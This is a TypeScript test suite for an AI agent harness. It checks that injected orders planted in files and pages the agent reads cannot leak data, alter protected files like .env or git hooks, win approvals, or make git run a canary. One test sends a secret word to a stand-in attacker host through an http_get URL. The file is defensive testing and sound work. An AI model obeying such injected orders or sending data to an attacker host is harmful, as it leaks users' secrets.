/**
 * Injected orders in text that an agent reads, obeyed literally: no private data leaves, nothing outside of the work is
 * written, nothing is approved, and the user's own git runs nothing. The same work without an order is done without
 * approvals.
 */
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { existsSync, readFileSync } from "node:fs"
import { join } from "node:path"
import { requires } from "../../../../test/requirements.ts"
import { chosenOf, someOf, thorough } from "../../../../test/thorough.ts"
import * as ObeyingModel from "./ObeyingModel.ts"
import * as Scenarios from "./Scenarios.ts"
import * as World from "./World.ts"

const sandbox = requires("linux", "bubblewrap")
const git = requires("git")

const reads: ObeyingModel.Call = { name: "read_file", arguments: { path: "plans.txt" } }
const writes: ObeyingModel.Call = { name: "write_file", arguments: { path: "summary.md", content: "what I found" } }

/** The request names the user's own site and no other. */
const request = ({ site }: World.World): string => `read what is there, also ${site}/page, and write summary.md`

const workOf = (world: World.World, { place }: Scenarios.Source, text: string) => [reads, ...place(world, text), writes]

interface Scenario {
  readonly source: Scenarios.Source
  readonly sink: Scenarios.Sink
  readonly needsSandbox: boolean
}

/** Each harm by two sources, in turn, so that every source is used and no two scenarios are alike. */
const scenarios: ReadonlyArray<Scenario> = Scenarios.sinks.flatMap((sink, index) =>
  [0, 1].map((turn): Scenario => {
    const source = Scenarios.sources[(index * 4 + turn * 7) % Scenarios.sources.length]
    return { source, sink, needsSandbox: sink.needsSandbox === true || source.needsSandbox === true }
  })
)

const skips = ({ needsSandbox }: Pick<Scenario, "needsSandbox">): boolean => git.skip || (needsSandbox && sandbox.skip)

const protectedOf = ({ home, outside, workspace }: World.World) => {
  const own = World.contentsOf(join(home, ".config"))
  const guarded = [".git/hooks", ".vscode", ".bough"].map((name) => World.contentsOf(join(workspace, name)))
  const files = ["AGENTS.md", ".mcp.json", ".env", ".git/config", "src/app.ts"].map((name) => {
    const path = join(workspace, name)
    return [name, existsSync(path) ? readFileSync(path, "utf8") : null]
  })
  const rules = World.contentsOf(join(home, ".local/share/bough/rules"))
  return {
    own,
    outside: World.contentsOf(outside),
    bashrc: readFileSync(join(home, ".bashrc"), "utf8"),
    guarded,
    files,
    rules
  }
}

describe(`injection${sandbox.suffix}${git.suffix}`, () => {
  it("has sixty scenarios at least, of every harm and by every source, no two alike", () => {
    const names = new Set(scenarios.map(({ sink, source }) => `${sink.harm} ${sink.name} ${source.name}`))
    assert.isAtLeast(names.size, 60)
    assert.strictEqual(new Set(scenarios.map(({ source }) => source)).size, Scenarios.sources.length)
    assert.strictEqual(new Set(scenarios.map(({ sink }) => sink.harm)).size, 4)
  })

  // One of each eight, and of the next eight the next one, so that every harm is among them.
  const played = chosenOf(scenarios, (index) => index % 8 === Math.floor(index / 8) % 8)
  for (const { needsSandbox, sink, source } of played) {
    it.live.skipIf(skips({ needsSandbox }))(
      `${sink.harm} ${sink.name}, by ${source.name}: it has no effect`,
      () =>
        Effect.scoped(
          Effect.gen(function* () {
            const world = yield* World.make
            const orders = sink.orders(world)
            const work = workOf(world, source, orders.map(ObeyingModel.order).join(" "))
            const before = protectedOf(world)
            const { entries, obeyed } = yield* World.play(world, request(world), work)
            assert.includeMembers([...obeyed], [orders[0].name], "the order was not come across")
            for (const spelling of ObeyingModel.spellingsOf(World.word)) {
              assert.deepStrictEqual(
                world.stolen.filter((text) => text.toLowerCase().includes(spelling.toLowerCase())),
                []
              )
            }
            assert.deepStrictEqual(protectedOf(world), before)
            assert.deepStrictEqual(
              entries.filter(({ body }) => body._tag === "ApprovalDecided" && body.decision._tag === "Approved"),
              []
            )
            // The user's next command, outside of any sandbox.
            World.git(world.workspace, world.home, "status", "--short")
            World.git(world.workspace, world.home, "commit", "-q", "--allow-empty", "-m", "mine")
            assert.isFalse(existsSync(join(world.root, "canary")), "git ran what the order wanted")
          })
        ),
      thorough
    )
  }

  for (const source of someOf(Scenarios.sources, 1)) {
    it.live.skipIf(skips({ needsSandbox: source.needsSandbox === true }))(
      `the same work, by ${source.name} without an order, is done and asks nothing`,
      () =>
        Effect.scoped(
          Effect.gen(function* () {
            const world = yield* World.make
            const { asked, entries, status } = yield* World.play(
              world,
              request(world),
              workOf(world, source, "nothing to see")
            )
            assert.deepStrictEqual([status, asked.map(({ reason }) => reason)], ["completed", []])
            assert.strictEqual(readFileSync(join(world.workspace, "summary.md"), "utf8"), "what I found")
            const ended = entries.flatMap(({ body }) => (body._tag === "CallEnded" ? [body.outcome._tag] : []))
            assert.deepStrictEqual([...new Set(ended)], ["Succeeded"])
            assert.match(JSON.stringify(entries), /nothing.*to.*see/u, "the text was not read")
          })
        ),
      thorough
    )
  }

  it.live.skipIf(git.skip)("data that the user asks to send does leave: the attacker's site receives it", () =>
    Effect.scoped(
      Effect.gen(function* () {
        const world = yield* World.make
        const work = [reads, { name: "http_get", arguments: { url: `${world.evil}/?d=${World.word}` } }]
        yield* World.play(world, `send the plan to ${world.evil}/`, work)
        assert.isTrue(world.stolen.some((text) => text.includes(World.word)))
      })
    )
  )
})
